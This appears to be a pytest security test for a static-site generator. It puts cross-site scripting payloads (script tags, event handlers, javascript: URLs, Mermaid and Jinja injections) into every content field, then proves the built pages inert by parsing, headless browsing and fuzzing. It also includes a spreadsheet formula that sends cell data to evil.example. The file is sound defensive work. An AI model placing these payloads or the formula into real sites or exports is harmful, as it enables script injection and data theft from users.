"""XSS corpus: hostile text in every field of the content model, built, then proven inert.

The project is generated from the key lists in validate.py, so a field added later
is attacked too (a field that needs a non-text value is given a valid one). Every
built HTML page is parsed: the only scripts are the theme's own files, there is no
``on*`` attribute and no ``javascript:``/``vbscript:``/``data:`` URL. Then the pages
are opened in headless Chromium, where no dialog may open. Both modes are
covered: raw HTML escaped (the default) and ``markdown: {html: true}``.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
from html.parser import HTMLParser
from pathlib import Path

import pytest
import yaml
from hypothesis import HealthCheck, given, settings, strategies as st

from journeydocs.load import validate as validate
from journeydocs.build import build, load_playbook
from journeydocs.markdown import html_allowed, render_markdown, split_storyline
from journeydocs.model import Term

PAYLOAD = ("<script>alert(1)</script>\"><img src=x onerror=alert(2)>' onmouseover='alert(3)' "
           "javascript:alert(4) </script><svg onload=alert(5)></textarea></title> {{ 7*7 }} "
           "{% if true %}jinja{% endif %} %%{init: {\"securityLevel\":\"loose\"}}%% "
           "<a href=\"javascript:alert(6)\">x</a> ]]>--><!--")
FORMULA = "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")"
UNSAFE_LINKS = ["javascript:alert(7)", " JaVaScRiPt:alert(8)", "vbscript:msgbox(9)",
                "data:text/html,<script>alert(10)</script>", "java\tscript:alert(11)",
                'https://example.com/"><script>alert(12)</script>']
BODY = f"""{PAYLOAD}

<script>alert(20)</script>
<img src=x onerror="alert(21)">
<a href="javascript:alert(22)" onclick="alert(23)">raw link</a>
<iframe src="javascript:alert(24)"></iframe>
<details open ontoggle="alert(25)"><summary>s</summary>d</details>
<pre class="mermaid">%%{{init: {{"securityLevel":"loose"}}}}%%
flowchart LR
  A["<img src=x onerror=alert(26)>"] --> B
  click A call alert(27)
</pre>

[md link](javascript:alert(28)) [md vb](vbscript:msgbox(29)) [md data](data:text/html,x)
![md image](javascript:alert(30)) <javascript:alert(31)> [ref][r] [tab](java%09script:alert(32))

[r]: javascript:alert(33)

## Discover

```mermaid
%%{{init: {{"securityLevel": "loose", "startOnLoad": true}}}}%%
flowchart LR
  A["{PAYLOAD.replace('"', "'")}"] --> B
  click A "javascript:alert(34)"
  click B call alert(35)
```

```html
<script>alert(36)</script>
```

| {PAYLOAD.replace('|', '/')} | b |
|---|---|
| <b onclick=alert(37)>c</b> | d |
"""

STAGES = [{"id": "discover", "name": PAYLOAD, "description": PAYLOAD}, {"id": "buy", "name": PAYLOAD}]
SITE = {
    "title": PAYLOAD, "description": PAYLOAD, "language": "en",
    "base_url": "https://example.com/play%22book/",  # tests/bad/base-url: a raw quote is refused
    "stages": STAGES,
    "channels": [{"id": "email", "name": PAYLOAD, "description": PAYLOAD},
                 {"id": "web", "name": PAYLOAD}],
    "teams": [{"id": "marketing", "name": PAYLOAD, "description": PAYLOAD},
              {"id": "data", "name": PAYLOAD}],
}
VALID = {
    # values for fields that are ids, enums, numbers, dates or structure
    "id": None, "type": None, "status": None, "personas": ["maria"], "owner": "marketing",
    "persona": "maria", "stage": "discover", "channel": "email", "channels": ["email", "web"],
    "emotion": 2, "effort": 2, "impact": 5, "order": 1, "future_of": "xss-old",
    "last_reviewed": "2026-01-01", "next": ["second"], "internal": False,
    "goal": {"metric": PAYLOAD, "target": PAYLOAD},
    "raci": {"responsible": ["marketing"], "accountable": ["marketing"], "consulted": ["data"],
             "informed": ["data"]},
    "pillars": {key: PAYLOAD for key in ("audience", "data", "content", "channels")},
    "stages": STAGES,
    "evidence": {"kind": "research", "source": "javascript:alert(41)", "note": PAYLOAD},
    # content model version 2
    "by": "backstage", "detail": "xss-old", "kind": "staff",
    "image": "",  # a path that must exist (checked in test_views_tables)
    "checks": {"touchpoint-no-content": "off"},
    "entry": {"trigger": PAYLOAD, "source": PAYLOAD, "criteria": [PAYLOAD], "re_entry": PAYLOAD},
    "platform": {"tool": PAYLOAD, "id": PAYLOAD, "url": "javascript:alert(52)",
                 "version": PAYLOAD, "status": PAYLOAD},
}
LISTS = {"goals", "needs", "pain_points", "motivations", "systems", "data",
         "exit", "props", "frontstage", "backstage"}
KPIS = [{"metric": PAYLOAD, "baseline": PAYLOAD, "actual": PAYLOAD, "target": PAYLOAD,
         "source": "javascript:alert(53)"},
        {"metric": PAYLOAD, "source": PAYLOAD}]


def fields(keys: tuple[str, ...], nested: dict, dropped: set[str]) -> dict:
    """Every key: hostile text, unless it needs a valid value or structure."""
    data = {}
    for key in keys:
        if key in dropped:
            continue
        if key in nested:
            data[key] = nested[key]
        elif key in VALID:
            if VALID[key] is not None:
                data[key] = VALID[key]
        elif key in LISTS:
            data[key] = [PAYLOAD, PAYLOAD + " 2"]
        else:
            data[key] = PAYLOAD
    return data


def hostile_project(root: Path, dropped: set[str], html: bool) -> Path:
    content = [dict(fields(validate.CONTENT_KEYS, {"link": link}, dropped), id=f"c{n}",
                    status="live") for n, link in enumerate(UNSAFE_LINKS)]
    content[0]["title"] = content[0]["type"] = FORMULA  # CSV exports must not run it
    opportunity = fields(validate.OPPORTUNITY_KEYS, {}, dropped) | {"status": "idea"}
    touchpoints = [fields(validate.TOUCHPOINT_KEYS, {"opportunities": [opportunity],
                                                     "content": content}, dropped) | {"id": "first"},
                   {"id": "second", "name": PAYLOAD, "stage": "buy", "channel": "web"}]
    journey = fields(validate.JOURNEY_KEYS, {"touchpoints": touchpoints, "goals": KPIS}, dropped)
    journey.pop("goal", None)  # goals: (KPIs) instead; journey.goal is the first
    journey |= {"type": "future-state", "status": "published"}
    old = {"title": PAYLOAD, "personas": ["maria"], "type": "current-state",
           "touchpoints": [{"id": "only", "name": PAYLOAD, "stage": "buy", "channel": "email"}]}
    site = dict(SITE, markdown={"html": True}) if html else SITE
    files = {
        "site.yml": yaml.safe_dump(site, allow_unicode=True),
        "content/personas/maria.md": fields(validate.PERSONA_KEYS, {}, dropped),
        "content/journeys/xss.md": journey,
        "content/journeys/xss-old.md": old,
        "content/pages/guide.md": fields(validate.PAGE_KEYS, {}, dropped),
    }
    for relative, data in files.items():
        path = root / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        text = data if isinstance(data, str) else \
            "---\n" + yaml.safe_dump(data, allow_unicode=True, sort_keys=False) + "---\n" + BODY
        path.write_text(text, encoding="utf-8")
    return root


def make_valid_project(root: Path, html: bool) -> tuple[Path, set[str]]:
    """The hostile project; keys added later that want non-text values are left out."""
    dropped: set[str] = set()
    for _ in range(5):
        shutil.rmtree(root, ignore_errors=True)
        project = hostile_project(root, dropped, html)
        _, problems = load_playbook(project)
        if not problems.errors:
            return project, dropped
        named = {key for p in problems.errors for key in re.findall(r"'([a-z_]+)'", p.message)}
        new = named - dropped - {"id", "title", "name", "personas", "touchpoints"}
        assert new, [p.format() for p in problems.errors]
        dropped |= new
    raise AssertionError(f"could not make a valid hostile project; dropped {dropped}")


UNSAFE_URL = re.compile(r"^\s*(javascript|vbscript|data)\s*:", re.I)
URL_ATTRS = {"href", "src", "action", "formaction", "xlink:href", "srcdoc", "poster", "background",
             "data", "codebase", "cite"}


class Scan(HTMLParser):
    """What could run in a page: scripts, handlers, unsafe URLs, frames."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.scripts: list[str] = []
        self.bad: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        values = dict(attrs)
        if tag == "script":
            self.scripts.append(values.get("src") or "<inline>")
        if tag in ("iframe", "object", "embed", "frame", "base", "meta") and \
                (tag != "meta" or "refresh" in (values.get("http-equiv") or "").lower()):
            self.bad.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.bad.append(f"{tag} {name}={value}")
            if name in URL_ATTRS and value and UNSAFE_URL.match(value):
                self.bad.append(f"{tag} {name}={value}")
            if name == "style" and value and re.search(r"expression|url\s*\(|javascript", value, re.I):
                self.bad.append(f"{tag} style={value}")

    handle_startendtag = handle_starttag

    def handle_data(self, data):
        self.text.append(data)


def scan_html(text: str) -> Scan:
    parser = Scan()
    parser.feed(text)
    parser.close()
    return parser


def assert_inert(out: Path, base_path: str = "/") -> list[Path]:
    pages = sorted(out.rglob("*.html"))
    assert len(pages) >= 8
    theme_scripts = {p.relative_to(out).as_posix() for p in (out / "assets").rglob("*.js")}
    for page in pages:
        found = scan_html(page.read_text(encoding="utf-8"))
        assert found.bad == [], (page, found.bad)
        for src in found.scripts:
            assert src != "<inline>", page
            target = (page.parent / src).resolve() if not src.startswith("/") else \
                out / src.removeprefix(base_path)  # the 404 page links from the site root
            assert target.relative_to(out.resolve()).as_posix() in theme_scripts, (page, src)
    for data in out.rglob("*.json"):
        json.loads(data.read_text(encoding="utf-8"))  # content cannot break out of JSON
    cells = [(table, cell) for table in out.rglob("*.csv")
             for row in csv.reader(io.StringIO(table.read_text(encoding="utf-8-sig")))
             for cell in row]
    assert any(FORMULA in cell for _, cell in cells)
    for table, cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (table, cell)
    return pages


@pytest.fixture(scope="module", params=[False, True], ids=["escaped", "html-opt-in"])
def hostile_site(request, tmp_path_factory):
    root = tmp_path_factory.mktemp("xss")
    project, dropped = make_valid_project(root / "project", html=request.param)
    result = build(project, root / "site")  # site.yml's markdown.html decides
    return root / "site", result, dropped


def test_every_field_is_attacked(hostile_site):
    _, result, dropped = hostile_site
    journey = result.playbook.journeys["xss"]
    tp = journey.touchpoints[0]
    assert journey.title == tp.name == tp.does == tp.feels == PAYLOAD
    assert tp.content and tp.opportunities and journey.goal
    assert dropped <= {"internal", "evidence"} | set(validate.JOURNEY_KEYS) - set(VALID) | LISTS, dropped
    assert not dropped & {"title", "name", "summary", "does", "thinks", "feels", "quote", "role",
                          "timing", "expectation", "reality", "description", "type"}


def test_built_html_has_nothing_that_runs(hostile_site):
    out, result, _ = hostile_site
    pages = assert_inert(out, "/play%22book/")
    everything = " ".join(" ".join(scan_html(p.read_text(encoding="utf-8")).text) for p in pages)
    assert "{{ 7*7 }}" in everything and "49" not in everything.replace("2049", "")
    for page in pages:
        for source in re.findall(r'<pre class="mermaid"[^>]*>(.*?)</pre>', page.read_text(), re.S):
            # generated diagrams may start with their own init; none from content survives
            assert "securityLevel" not in source and "loose" not in source, page


def test_pages_open_without_dialogs(hostile_site):
    from harness.browser import open_page, require_browser

    require_browser()
    out, _, _ = hostile_site
    # Every page holding Markdown or diagrams from content, and the home page with its
    # search; all pages are parsed above, opening each in a browser would take a minute.
    pages = sorted(p for p in out.rglob("*.html") if p == out / "index.html" or
                   {"personas", "pages", "xss"} & set(p.relative_to(out).parts[:2]))
    dialogs: list[str] = []
    for page in pages:
        with open_page(page) as loaded:
            loaded.page.on("dialog", lambda d: (dialogs.append(f"{page}: {d.message}"), d.dismiss()))
            if loaded.page.query_selector("pre.mermaid"):
                loaded.page.wait_for_function(
                    "() => [...document.querySelectorAll('pre.mermaid')]"
                    ".every(p => p.querySelector('svg') || p.dataset.processed)", timeout=20_000)
            search = loaded.page.query_selector("form[data-search] input")
            if page == out / "index.html" and search is not None:
                for query in ("alert", "onerror", "script"):  # results drawn from content
                    search.fill(query)
                    loaded.page.wait_for_timeout(150)
            loaded.page.wait_for_timeout(50)
            assert loaded.page.evaluate("document.title").find("pwned") < 0
    assert dialogs == []


# -- Markdown on its own, fuzzed ------------------------------------------------------

PIECES = st.sampled_from([
    "<script>", "</script>", "<img src=x onerror=alert(1)>", "\"", "'", ">", "<", "[", "]", "(",
    ")", "javascript:", "java\tscript:", "&#106;avascript:", "vbscript:", "data:", "alert(1)",
    "<a href=", "<svg onload=alert(1)>", "```mermaid\n", "```\n", "%%{init: {}}%%", "\n", "\n\n",
    "## ", "- ", "> ", "| a |\n|---|\n", "*", "_", "`", "!", "[x]: ", "<!--", "-->", "onclick=",
    "<details ontoggle=alert(1) open>", "<a href='javascript:alert(1)'>", "{{ }}", "{% %}",
    "<style>", "<iframe>", "<base href=javascript:/>", "text ", "&", "\\", ":::", "internal\n",
])
MARKDOWN = st.lists(PIECES, max_size=40).map("".join)


SCALE = int(os.environ.get("JOURNEYDOCS_FUZZ_SCALE", "1"))
"""Multiplies the fuzz examples; e.g. 20 for a long run before a release."""


@settings(max_examples=200 * SCALE, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(MARKDOWN, st.booleans())
def test_fuzzed_markdown_renders_inert(text, html):
    with html_allowed(html):
        parts = [render_markdown(text, {})]
        story = split_storyline(text, [Term("discover", "Discover")])
    parts += [story.intro, *story.stages.values(), *(s.html for s in story.others),
              *(s.title_html for s in story.others)]
    for part in parts:
        found = scan_html(str(part))
        assert found.scripts == [] and found.bad == [], (text, str(part))
        for source in re.findall(r'<pre class="mermaid"[^>]*>(.*?)</pre>', str(part), re.S):
            assert "%%{" not in source, (text, source)


# -- whole playbooks, fuzzed: whatever passes the checker renders, and renders inert ----

TEXT = st.text(st.characters(blacklist_categories=("Cs",)), max_size=30)
TIMING = st.one_of(TEXT, st.sampled_from(["day 0", "+24 h", "D+3", "week 2", "day -1", "+0 h",
                                          "week 99999999999", "D+", "12:15"]))


@st.composite
def playbooks(draw):
    touchpoints = [{"id": f"t{n}", "name": draw(TEXT) or "x", "stage": draw(st.sampled_from(["discover", "buy"])),
                    "channel": draw(st.sampled_from(["email", "web"])), "timing": draw(TIMING),
                    "does": draw(TEXT), "feels": draw(TEXT), "emotion": draw(st.integers(1, 5)),
                    "pain_points": draw(st.lists(TEXT, max_size=3)),
                    "opportunities": [{"title": draw(TEXT) or "o", "effort": draw(st.integers(1, 5)),
                                       "impact": draw(st.integers(1, 5))}],
                    "content": [{"id": f"c{n}", "title": draw(TEXT) or "c", "status": "live",
                                 "link": draw(st.sampled_from(["", "https://x.example/a b",
                                                               "mailto:a@b", "../x"]))}]}
                   for n in range(draw(st.integers(1, 3)))]
    journey = {"title": draw(TEXT) or "t", "summary": draw(TEXT), "personas": ["maria"],
               "touchpoints": touchpoints}
    return journey, draw(MARKDOWN), draw(TEXT)


@settings(max_examples=10 * SCALE, deadline=None, suppress_health_check=[HealthCheck.too_slow,
                                                                 HealthCheck.function_scoped_fixture])
@given(playbooks())
def test_fuzzed_playbooks_render_inert(tmp_path, case):
    from conftest import MINIMAL_SITE, write_tree
    from journeydocs.build import default_theme_dir
    from journeydocs.pages.tasks import render_site

    journey, body, name = case
    root = tmp_path / "fuzz"
    shutil.rmtree(root, ignore_errors=True)
    write_tree(root, {"site.yml": MINIMAL_SITE,
                      "content/personas/maria.md": "---\n" + yaml.safe_dump({"name": name or "M"})
                      + "---\n" + body,
                      "content/journeys/gift.md": "---\n" + yaml.safe_dump(journey) + "---\n" + body})
    playbook, problems = load_playbook(root)
    if playbook is None:
        assert all(p.line >= 1 for p in problems.errors), [p.format() for p in problems.errors]
        return
    for item in render_site(playbook, default_theme_dir()):
        if item.path.endswith(".html"):
            found = scan_html(item.data.decode("utf-8"))
            assert found.bad == [] and "<inline>" not in found.scripts, (item.path, found.bad)
